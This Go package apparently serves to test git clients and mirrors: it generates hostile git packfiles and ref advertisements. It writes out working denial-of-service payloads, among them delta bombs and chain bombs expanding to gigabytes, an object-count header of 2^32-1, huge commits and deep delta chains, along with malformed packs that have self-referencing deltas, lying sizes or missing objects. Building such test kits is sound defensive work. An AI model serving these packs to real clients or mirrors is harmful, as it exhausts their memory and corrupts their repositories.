package hostile

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"iter"
	"math"
	"strings"

	"github.com/go-git/go-git/v5/plumbing"
)

// Built is a crafted attack: a pack, and the refs that make a client want
// what it holds (or believe it does). Refs[0] is the branch the attack is
// on (refs/heads/main unless changed with Branch) and points at Tip.
// Scenario serves it to a client that clones, Hybrid to a mirror that
// already holds a real repository.
type Built struct {
	Pack []byte
	// Tip is the commit (or, for RefToBlob, the blob) Refs[0] points at.
	Tip  plumbing.Hash
	Refs []Ref
	// MoreRefs, when not nil, are streamed after Refs in the
	// advertisement (ManyRefs, EndlessRefs).
	MoreRefs iter.Seq[Ref]
	// Advert, when not nil, is the raw advertisement, replacing Refs and
	// MoreRefs (LyingPktLine); HangUp ends a git:// session after it.
	Advert func() io.Reader
	HangUp bool
}

// Branch returns b with its branch (Refs[0]) renamed refs/heads/<name>.
func (b Built) Branch(name string) Built {
	b.Refs = append([]Ref(nil), b.Refs...)
	b.Refs[0].Name = "refs/heads/" + name
	return b
}

// Scenario serves b alone: Refs (HEAD pointing at Refs[0]), MoreRefs or
// Advert, and the pack as the answer to any request.
func (b Built) Scenario() Scenario {
	return Scenario{Refs: b.Refs, MoreRefs: b.MoreRefs, Advert: b.Advert, HangUp: b.HangUp, Head: b.Refs[0].Name, Pack: b.Pack}
}

// Hybrid serves b over the real repository at dir: dir's refs with b's
// refs added or replacing those of the same name (so the attack's branch
// replaces dir's branch of that name), dir's HEAD, and the pack as the
// answer to any request. Build b with dir's tip as parent for a
// fast-forward an existing mirror fetches.
func (b Built) Hybrid(dir string) Scenario {
	sc := b.Scenario()
	sc.Head = ""
	sc.Base = dir
	return sc
}

const mainBranch = "refs/heads/main"

func built(p *PackBuilder, tip plumbing.Hash) Built {
	return Built{Pack: p.Bytes(), Tip: tip, Refs: []Ref{{Name: mainBranch, Hash: tip}}}
}

// addTip adds a commit (with parents, over a tree of entries) naming the
// attack in its message, and its tree, and returns the commit's id.
func addTip(p *PackBuilder, attack string, parents []plumbing.Hash, entries ...TreeEntry) plumbing.Hash {
	tree := Tree(entries...)
	p.Add(tree)
	c := Commit(tree.Hash(), parents, DefaultSignature, DefaultSignature, "hostile: "+attack+"\n")
	p.Add(c)
	return c.Hash()
}

// phantom returns the id of a commit that is never sent anywhere.
func phantom(what string) plumbing.Hash {
	return Commit(EmptyTree.Hash(), nil, DefaultSignature, DefaultSignature, "hostile: never sent: "+what+"\n").Hash()
}

// Valid returns a correct pack a client must accept: two commits (the
// first with parents, the second its child, Tip), their trees, three
// blobs (one a whole object, one an ofs-delta of it, one a ref-delta of it
// whose base is in the pack) and an annotated tag v1 of the first commit.
// Refs: refs/heads/main at Tip, refs/tags/v1 at the tag (peeled).
func Valid(parents ...plumbing.Hash) Built {
	p := NewPack()
	b1 := Blob([]byte(strings.Repeat("hostile kit, first version of a readme\n", 20)))
	b2 := Blob(append(append([]byte(nil), b1.Data...), "second version\n"...))
	b3 := Blob(append([]byte("notes\n"), b1.Data[:100]...))
	p.Add(b1)
	t1 := Tree(TreeEntry{ModeFile, "README", b1.Hash()})
	p.Add(t1)
	c1 := Commit(t1.Hash(), parents, DefaultSignature, DefaultSignature, "hostile: valid, first\n")
	p.Add(c1)
	p.OfsDelta(0, Delta(uint64(len(b1.Data)), uint64(len(b2.Data)), CopyOp(0, uint32(len(b1.Data))), InsertOp([]byte("second version\n"))))
	p.RefDelta(b1.Hash(), Delta(uint64(len(b1.Data)), uint64(len(b3.Data)), InsertOp([]byte("notes\n")), CopyOp(0, 100)))
	t2 := Tree(TreeEntry{ModeFile, "README", b2.Hash()}, TreeEntry{ModeFile, "NOTES", b3.Hash()},
		TreeEntry{ModeDir, "dir", t1.Hash()})
	p.Add(t2)
	c2 := Commit(t2.Hash(), []plumbing.Hash{c1.Hash()}, DefaultSignature, DefaultSignature, "hostile: valid, second\n")
	p.Add(c2)
	tag := Tag(c1.Hash(), plumbing.CommitObject, "v1", DefaultSignature, "hostile: v1\n")
	p.Add(tag)
	b := built(p, c2.Hash())
	b.Refs = append(b.Refs, Ref{Name: "refs/tags/v1", Hash: tag.Hash(), Peeled: c1.Hash()})
	return b
}

// Header counts of HeaderOnly's findings.
const (
	CountMax = math.MaxUint32 // 2^32-1 objects
	Count32M = 1 << 25        // 33,554,432 objects
)

// HeaderOnly returns a 12-byte pack: a header claiming count objects, and
// nothing after it. Tip names a commit that is never sent. A reader that
// sizes anything by the declared count (a slice of entries, a map)
// allocates for count objects before reading one: at CountMax, tens of
// GiB. It must fail on the missing entries with memory bounded by what
// arrived.
func HeaderOnly(count uint32) Built {
	p := NewPack()
	p.SetCount(count)
	p.SetChecksum(ChecksumMissing)
	return built(p, phantom("header only"))
}

// Result sizes of DeltaBomb's findings: 8,515 and 31,586 copies of 64 KiB,
// and 1 GiB.
const (
	Bomb558MB = 8515 << 16  // 558,039,040 bytes
	Bomb2GB   = 31586 << 16 // 2,070,020,096 bytes
	Bomb1GiB  = 1 << 30
)

// bombBase is the size of a bomb's base blob (zeros): one copy op of a
// single byte, 0x80, copies all of it.
const bombBase = 0x10000

// DeltaBomb returns a tiny self-contained pack (a few hundred bytes)
// whose one delta expands to size bytes: its base is a blob of 64 KiB of
// zeros in the pack, its instructions are size/64Ki copies of the whole
// base (the byte 0x80, which zlib compresses to almost nothing) and one
// copy for the remainder, and its header declares the true result size.
// The pack also holds Tip, a commit (with parents) over the empty tree;
// no tree names the expanded blob (naming it would need its id, that is,
// hashing size bytes), but an indexer resolves every delta of a pack.
//
// A client that applies the delta in memory allocates size bytes (and
// more to hash it). It must refuse the pack by its budget (the declared
// result size against what it allows), before allocating.
//
// Bomb558MB (a 342-byte pack) and Bomb2GB (366 bytes) reproduce the
// clone findings (~315 and ~328 bytes there, without a commit); Bomb1GiB, with the mirror's tip as parent and served
// with Built.Hybrid, reaches a sync (the bomb refers to nothing outside
// the pack, which a mirror that asks for no thin pack would refuse).
func DeltaBomb(size int64, parents ...plumbing.Hash) Built {
	if size <= 0 {
		panic("hostile: delta bomb of no size")
	}
	p := NewPack()
	base := p.Add(Blob(make([]byte, bombBase)))
	head := DeltaHeader(bombBase, uint64(size))
	if rem := size % bombBase; rem != 0 {
		head = append(head, CopyOp(0, uint32(rem))...)
	}
	n := size / bombBase
	p.OfsDeltaCompressed(base, uint64(int64(len(head))+n), zlibRepeat(head, 0x80, n))
	return built(p, addTip(p, fmt.Sprintf("delta bomb of %d bytes", size), parents))
}

// Chain bomb of the finding: 200 deltas of 8 MiB each.
const (
	ChainLength = 200
	ChainEach   = 8 << 20
)

// ChainBomb returns a pack of n chained deltas each producing each bytes
// (at least 64 KiB + 8): the first is based on a 64 KiB blob of zeros,
// every other on the one before (ofs-deltas). Delta i inserts its number
// (8 bytes) and copies the start of its base in 64 KiB copies, so every
// result is a distinct blob. ChainBomb(ChainLength, ChainEach) is 6.7 KB
// and resolves to 1.6 GB of blobs, 8 MiB at a time: a resolver that keeps
// every result (or every base of the chain) in memory holds all of it.
// Tip is a commit over the empty tree, with parents.
func ChainBomb(n int, each int64, parents ...plumbing.Hash) Built {
	if each < bombBase+8 {
		panic("hostile: chain bomb results must be at least 64 KiB + 8 bytes")
	}
	p := NewPack()
	prev := p.Add(Blob(make([]byte, bombBase)))
	src := uint64(bombBase)
	for i := 1; i <= n; i++ {
		rest := each - 8
		d := DeltaHeader(src, uint64(each))
		d = append(d, InsertOp(binary.BigEndian.AppendUint64(nil, uint64(i)))...)
		d = append(d, bytes.Repeat([]byte{0x80}, int(rest/bombBase))...)
		if rem := rest % bombBase; rem != 0 {
			d = append(d, CopyOp(0, uint32(rem))...)
		}
		prev = p.OfsDelta(prev, d)
		src = uint64(each)
	}
	return built(p, addTip(p, fmt.Sprintf("chain of %d deltas of %d bytes", n, each), parents))
}

// Sizes of HugeCommit's findings.
const (
	HugeCommit64M  = 64 << 20
	HugeCommit256M = 256 << 20
)

// HugeCommit returns a pack holding Tip, a commit of exactly size bytes
// (with parents, over the empty tree, which the pack holds too): its
// message is one line of "a" repeated, so the pack is about size/1000
// (~64 KB for 64 MiB). The commit is valid: git accepts it. A client that
// reads whole commits into memory (to hash, parse or show them) allocates
// size bytes for one object; it must bound the objects it reads whole.
func HugeCommit(size int64, parents ...plumbing.Hash) Built {
	prefix := []byte(commitHeader(EmptyTree.Hash(), parents, DefaultSignature, DefaultSignature) + "hostile: huge commit ")
	n := size - int64(len(prefix))
	if n < 0 {
		panic("hostile: huge commit smaller than its header")
	}
	p := NewPack()
	p.Add(EmptyTree)
	id := hashRepeat(plumbing.CommitObject, prefix, 'a', n)
	p.AddCompressed(plumbing.CommitObject, uint64(size), zlibRepeat(prefix, 'a', n), id)
	return built(p, id)
}

// DuplicateObjects returns a pack that claims 6 objects and holds 6
// entries: a blob, a tree and a commit (Tip, with parents), each twice.
// git index-pack --strict refuses it; a client that indexes by id must
// notice the duplicates (two index entries for one id), not store them.
func DuplicateObjects(parents ...plumbing.Hash) Built {
	p := NewPack()
	blob := Blob([]byte("hostile: duplicated\n"))
	tree := Tree(TreeEntry{ModeFile, "DUP", blob.Hash()})
	c := Commit(tree.Hash(), parents, DefaultSignature, DefaultSignature, "hostile: duplicate objects\n")
	for range 2 {
		p.Add(blob)
		p.Add(tree)
		p.Add(c)
	}
	return built(p, c.Hash())
}

// TrailingGarbage returns a correct pack (Tip, with parents, over the
// empty tree) followed by garbage after its checksum. A client must
// refuse it (or at least not store the garbage).
func TrailingGarbage(garbage []byte, parents ...plumbing.Hash) Built {
	p := NewPack()
	tip := addTip(p, "trailing garbage", parents)
	p.SetTrailer(garbage)
	return built(p, tip)
}

// MissingTree returns a pack holding only Tip, a commit (with parents)
// whose tree is never sent. The pack itself is well-formed; the commit
// is not connected, which a client must check before moving a ref to it.
func MissingTree(parents ...plumbing.Hash) Built {
	p := NewPack()
	blob := Blob([]byte("hostile: never sent\n"))
	tree := Tree(TreeEntry{ModeFile, "GONE", blob.Hash()})
	c := Commit(tree.Hash(), parents, DefaultSignature, DefaultSignature, "hostile: missing tree\n")
	p.Add(c)
	return built(p, c.Hash())
}

// MissingParent returns a pack holding Tip, a commit over the empty tree
// (sent) whose parent is a commit that exists nowhere. A client that
// moves a branch to Tip holds a branch with a broken history.
func MissingParent() Built {
	p := NewPack()
	return built(p, addTip(p, "missing parent", []plumbing.Hash{phantom("missing parent")}))
}

// RefToBlob returns a pack holding one blob, and Refs[0], a branch, points
// at it (Tip is the blob). A client that reads a branch tip as a commit
// must refuse the ref, not fail later on every read.
func RefToBlob() Built {
	p := NewPack()
	b := Blob([]byte("hostile: a branch pointing at a blob\n"))
	p.Add(b)
	return built(p, b.Hash())
}

// BadChecksum returns a pack (Tip, with parents, over the empty tree)
// whose trailing checksum is wrong.
func BadChecksum(parents ...plumbing.Hash) Built {
	p := NewPack()
	tip := addTip(p, "bad checksum", parents)
	p.SetChecksum(ChecksumCorrupt)
	return built(p, tip)
}

// Truncated returns Valid(parents...) cut after n bytes (n < 0: |n| bytes
// before its end). A client must fail, leave nothing behind, and its
// memory must not follow what the truncated header declared.
func Truncated(n int, parents ...plumbing.Hash) Built {
	b := Valid(parents...)
	b.Pack = Truncate(b.Pack, n)
	return b
}

// ThinPack returns a thin pack: its blob is a ref-delta whose base, base,
// is not in the pack (the delta copies all of base, then inserts a line).
// Tip (with parents) holds the blob. With a base the client has (a blob of
// the mirror), it is a genuine thin pack, which a client that asked for
// no thin pack must refuse; with any other base, the delta cannot be
// resolved at all. base's data must be at most MaxCopy bytes.
func ThinPack(base Object, parents ...plumbing.Hash) Built {
	extra := []byte("hostile: thin pack\n")
	var ops [][]byte
	if len(base.Data) > 0 {
		ops = append(ops, CopyOp(0, uint32(len(base.Data))))
	}
	ops = append(ops, InsertOp(extra))
	res := Blob(append(append([]byte(nil), base.Data...), extra...))
	p := NewPack()
	p.RefDelta(base.Hash(), Delta(uint64(len(base.Data)), uint64(len(res.Data)), ops...))
	return built(p, addTip(p, "thin pack", parents, TreeEntry{ModeFile, "THIN", res.Hash()}))
}

// BadBase says where SelfDelta's delta points.
type BadBase int

const (
	// BaseIsSelf: an ofs-delta of distance 0, its base is itself.
	BaseIsSelf BadBase = iota
	// BaseBeforePack: an ofs-delta whose distance exceeds its own offset:
	// the base would be before the pack's first byte (what a "forward"
	// reference wraps to).
	BaseBeforePack
	// BaseMidEntry: an ofs-delta whose base offset is inside the previous
	// entry, not at its start.
	BaseMidEntry
	// BaseIsOwnResult: a ref-delta whose base id is the id of its own
	// result (the delta only inserts, so the result is known).
	BaseIsOwnResult
)

// SelfDelta returns a pack whose blob is a delta based on itself or on
// nothing (see BadBase), and Tip (with parents) whose tree names the blob
// the delta would produce. A resolver must fail, not loop, recurse without
// end or read outside the pack.
func SelfDelta(kind BadBase, parents ...plumbing.Hash) Built {
	res := Blob([]byte("hostile: self delta\n"))
	d := Delta(uint64(len(res.Data)), uint64(len(res.Data)), InsertOp(res.Data))
	p := NewPack()
	prev := p.Add(Blob([]byte("hostile: an entry to point into\n")))
	switch kind {
	case BaseIsSelf:
		p.OfsDeltaDistance(0, d)
	case BaseBeforePack:
		p.OfsDeltaDistance(uint64(p.Offset(prev))+1000, d) // this entry is after prev: more than its own offset
	case BaseMidEntry:
		// This entry starts where the pack's entries end now; point one
		// byte after prev's start.
		end := int64(len(p.Bytes())) - 20
		p.OfsDeltaDistance(uint64(end-p.Offset(prev)-1), d)
	case BaseIsOwnResult:
		p.RefDelta(res.Hash(), d)
	default:
		panic("hostile: unknown BadBase")
	}
	return built(p, addTip(p, "self delta", parents, TreeEntry{ModeFile, "SELF", res.Hash()}))
}

// LyingSize returns a pack whose blob's entry header declares its real
// size plus by (by > 0: more than the zlib stream holds; by < 0: less),
// and Tip (with parents) naming the blob by its real id. A client must
// refuse the entry, not trust the declared size (to allocate, or to stop
// reading).
func LyingSize(by int64, parents ...plumbing.Hash) Built {
	b := Blob([]byte(strings.Repeat("hostile: lying size\n", 10)))
	if int64(len(b.Data))+by < 0 {
		panic("hostile: lying size below zero")
	}
	p := NewPack()
	p.AddSized(b, uint64(int64(len(b.Data))+by))
	return built(p, addTip(p, "lying size", parents, TreeEntry{ModeFile, "LIE", b.Hash()}))
}

// LyingDelta returns a pack whose second blob is an ofs-delta of the
// first whose header lies: it declares a base of the real size plus
// srcBy and a result of the real size plus dstBy (the ops produce the
// real result). Tip (with parents) names the real result. A client must
// check both sizes against the base and what the ops produce.
func LyingDelta(srcBy, dstBy int64, parents ...plumbing.Hash) Built {
	base := Blob([]byte(strings.Repeat("hostile: delta base\n", 10)))
	res := Blob(append(append([]byte(nil), base.Data...), "hostile: delta result\n"...))
	src, dst := int64(len(base.Data))+srcBy, int64(len(res.Data))+dstBy
	if src < 0 || dst < 0 {
		panic("hostile: lying delta sizes below zero")
	}
	p := NewPack()
	i := p.Add(base)
	p.OfsDelta(i, Delta(uint64(src), uint64(dst), CopyOp(0, uint32(len(base.Data))), InsertOp([]byte("hostile: delta result\n"))))
	return built(p, addTip(p, "lying delta", parents, TreeEntry{ModeFile, "BASE", base.Hash()}, TreeEntry{ModeFile, "LIE", res.Hash()}))
}

// DeepChainDepth is the depth of the finding's delta chain.
const DeepChainDepth = 20000

// DeepChain returns a valid pack of a 32-byte blob and depth ofs-deltas,
// each based on the one before (each inserts its number, 8 bytes, and
// copies 24 bytes of its base, so every result is distinct and 32 bytes
// long), and Tip (with parents) whose tree names the last result: to
// reach Tip's blob a client resolves the whole chain. Small (~0.5 MB for
// 20,000) and valid, it is a test of recursion (stack depth) and of the
// cost of a resolver that re-applies the chain for every object.
func DeepChain(depth int, parents ...plumbing.Hash) Built {
	cur := []byte("hostile: deep chain base blob 32")
	p := NewPack()
	prev := p.Add(Blob(cur))
	for i := 1; i <= depth; i++ {
		num := binary.BigEndian.AppendUint64(nil, uint64(i))
		prev = p.OfsDelta(prev, Delta(32, 32, InsertOp(num), CopyOp(0, 24)))
		cur = append(num, cur[:24]...)
	}
	return built(p, addTip(p, fmt.Sprintf("delta chain of depth %d", depth), parents, TreeEntry{ModeFile, "DEEP", Blob(cur).Hash()}))
}
